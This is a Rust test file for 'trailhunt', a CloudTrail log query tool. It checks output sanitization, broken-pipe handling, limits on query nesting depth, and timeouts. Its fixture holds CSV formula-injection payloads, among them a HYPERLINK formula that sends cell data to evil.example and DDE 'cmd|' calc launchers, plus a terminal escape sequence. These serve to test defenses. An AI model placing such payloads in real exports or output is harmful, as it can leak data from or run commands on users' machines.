//! Attacker-controlled strings in the output: CSV cells that spreadsheets would run as
//! formulas, terminal escapes in table and Markdown output; a closed stdout; queries built
//! to overflow the parser's stack.

mod common;
use common::{text, th, workspace};
use std::io::Read;
use std::process::{Command, Stdio};

/// One CloudTrail file whose user agents are hostile.
fn hostile_file(dir: &std::path::Path) -> String {
    let agents = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "boto3\u{1b}]0;pwned\u{7}\u{1b}[2J",
    ];
    let records: Vec<String> = agents
        .iter()
        .enumerate()
        .map(|(i, ua)| {
            serde_json::json!({
                "eventVersion": "1.08",
                "eventTime": format!("2024-07-31T13:0{i}:00Z"),
                "eventSource": "sts.amazonaws.com",
                "eventName": "GetCallerIdentity",
                "awsRegion": "us-east-1",
                "sourceIPAddress": "203.0.113.77",
                "userAgent": ua,
                "eventID": format!("00000000-0000-0000-0000-00000000000{i}"),
                "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::1:user/x"},
                "eventType": "AwsApiCall",
                "recipientAccountId": "111111111111"
            })
            .to_string()
        })
        .collect();
    let path = dir.join("hostile.json");
    std::fs::write(&path, format!("{{\"Records\":[{}]}}", records.join(","))).unwrap();
    path.display().to_string()
}

const QUERY: &str = "from logs-aws.cloudtrail* | sort @timestamp | keep user_agent.original";

#[test]
fn csv_cells_are_neutralized_unless_asked() {
    let dir = tempfile::tempdir().unwrap();
    let f = hostile_file(dir.path());
    let out = th(&["query", "-i", &f, "-f", "csv", "-q", QUERY]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let csv = text(&out.stdout);
    let lines: Vec<&str> = csv.split("\r\n").collect();
    assert_eq!(lines[0], "user_agent.original");
    assert_eq!(
        lines[1],
        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""
    );
    assert_eq!(lines[2], "'+cmd|' /C calc'!A0");
    assert_eq!(lines[3], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(lines[4], "'-2+3");
    let raw = th(&[
        "query",
        "-i",
        &f,
        "-f",
        "csv",
        "-q",
        "--csv-formulas",
        QUERY,
    ]);
    let raw = text(&raw.stdout);
    assert!(
        raw.split("\r\n").nth(2) == Some("+cmd|' /C calc'!A0"),
        "{raw}"
    );
}

#[test]
fn terminal_escapes_are_shown_not_emitted() {
    let dir = tempfile::tempdir().unwrap();
    let f = hostile_file(dir.path());
    for format in ["table", "markdown"] {
        let out = th(&["query", "-i", &f, "-f", format, "-q", QUERY]);
        assert!(out.status.success());
        assert!(
            !out.stdout.contains(&0x1b) && !out.stdout.contains(&0x07),
            "{format} emits control bytes"
        );
        assert!(
            text(&out.stdout).contains("boto3\\u{001b}]0;pwned\\u{0007}\\u{001b}[2J"),
            "{format}: {}",
            text(&out.stdout)
        );
    }
    // JSON is data: the string is kept (JSON-escaped), not altered.
    let out = th(&["query", "-i", &f, "-f", "json", "-q", QUERY]);
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["values"][4][0], "boto3\u{1b}]0;pwned\u{7}\u{1b}[2J");
}

/// `trailhunt … | head -1`: the reader goes away, trailhunt stops quietly.
#[test]
fn a_closed_stdout_ends_quietly() {
    for args in [
        vec!["normalize", "sample/AWSLogs"],
        vec![
            "query",
            "-i",
            "sample/AWSLogs",
            "-f",
            "ndjson",
            "-q",
            "from logs-aws.cloudtrail* | keep event.original | limit 10000",
        ],
        vec![
            "query",
            "-i",
            "sample/AWSLogs",
            "-f",
            "table",
            "-q",
            "from logs-aws.cloudtrail* | keep event.id | limit 5000",
        ],
    ] {
        let mut child = Command::new(env!("CARGO_BIN_EXE_trailhunt"))
            .args(&args)
            .current_dir(workspace())
            .env(
                "TRAILHUNT_HOME",
                std::env::temp_dir().join("trailhunt-no-library"),
            )
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut first = [0u8; 64];
        child
            .stdout
            .as_mut()
            .unwrap()
            .read_exact(&mut first)
            .unwrap();
        drop(child.stdout.take());
        let mut err = String::new();
        child
            .stderr
            .take()
            .unwrap()
            .read_to_string(&mut err)
            .unwrap();
        let status = child.wait().unwrap();
        assert_eq!(status.code(), Some(141), "{args:?}: {err}");
        assert!(
            !err.contains("Broken pipe") && !err.contains("panicked"),
            "{args:?}: {err}"
        );
    }
}

#[test]
fn hostile_nesting_is_a_clear_error_not_a_crash() {
    let deep = format!(
        "from logs-aws.cloudtrail* | where {}event.action{} == \"x\"",
        "(".repeat(30_000),
        ")".repeat(30_000)
    );
    // (Linux caps one argument at 128 KiB: 30,000 levels stay under it.)
    // A refused query exits 1 (README: exit codes), like any other query error.
    let out = th(&["query", "-i", "sample/AWSLogs", "-q", &deep]);
    assert_eq!(out.status.code(), Some(1), "{}", &text(&out.stderr)[..200]);
    assert!(
        text(&out.stderr)
            .contains("ESQL statement exceeded the maximum expression depth allowed (400)"),
        "{}",
        text(&out.stderr)
    );
    let ors = format!(
        "from logs-aws.cloudtrail* | where {}",
        vec!["event.action == \"x\""; 5_000].join(" or ")
    );
    let out = th(&["query", "-i", "sample/AWSLogs", "-q", &ors]);
    assert_eq!(out.status.code(), Some(1));
    assert!(text(&out.stderr).contains("maximum expression depth"));
    // Within the limit, deep trees plan and run (on the query thread's large stack).
    let ors = format!(
        "from logs-aws.cloudtrail* | where {} | stats n = count(*)",
        (0..390)
            .map(|i| format!("event.action == \"x{i}\""))
            .collect::<Vec<_>>()
            .join(" or ")
    );
    let out = th(&["query", "-i", "sample/AWSLogs", "-q", "-f", "json", &ors]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("\"values\":[[0]]"));
}

#[test]
fn a_timeout_stops_the_query_with_a_clear_error() {
    // No scan of 566 files finishes within a millisecond.
    let out = th(&[
        "query",
        "-i",
        "sample/AWSLogs",
        "-q",
        "--timeout",
        "1ms",
        "from logs-aws.cloudtrail* | stats n = count(*) by event.id",
    ]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("the query did not finish within 1 ms (--timeout)"),
        "{}",
        text(&out.stderr)
    );
    let out = th(&[
        "query",
        "-i",
        "sample/AWSLogs",
        "-q",
        "--timeout",
        "10m",
        "-f",
        "json",
        "from logs-aws.cloudtrail* | stats n = count(*)",
    ]);
    assert!(out.status.success());
    assert!(text(&out.stdout).contains("[[3692]]"));
    let out = th(&[
        "query",
        "-i",
        "sample/AWSLogs",
        "--timeout",
        "soon",
        "from logs-aws.cloudtrail*",
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("--timeout \"soon\": not a duration"));
}

/// The limit holds even when an operator computes for long without yielding: six MV_EXPANDs
/// of 30 values make 729 million rows from one (a fuzz input; before, a 2 s limit ended the
/// process after 33 s, when the query would have finished).
#[test]
fn a_timeout_stops_a_query_that_never_yields() {
    let list = (1..=30)
        .map(|i| i.to_string())
        .collect::<Vec<_>>()
        .join(", ");
    let cols: Vec<String> = "abcdef"
        .chars()
        .map(|c| format!("{c} = [{list}]"))
        .collect();
    let expands: String = "abcdef"
        .chars()
        .map(|c| format!(" | mv_expand {c}"))
        .collect();
    let q = format!(
        "row {}{expands} | stats s = sum(a) by b | sort b",
        cols.join(", ")
    );
    let started = std::time::Instant::now();
    let out = th(&["query", "-i", "sample/AWSLogs", "-q", "--timeout", "1s", &q]);
    let took = started.elapsed();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("the query did not finish within 1s (--timeout)"),
        "{}",
        text(&out.stderr)
    );
    assert!(took < std::time::Duration::from_secs(15), "took {took:?}");
}
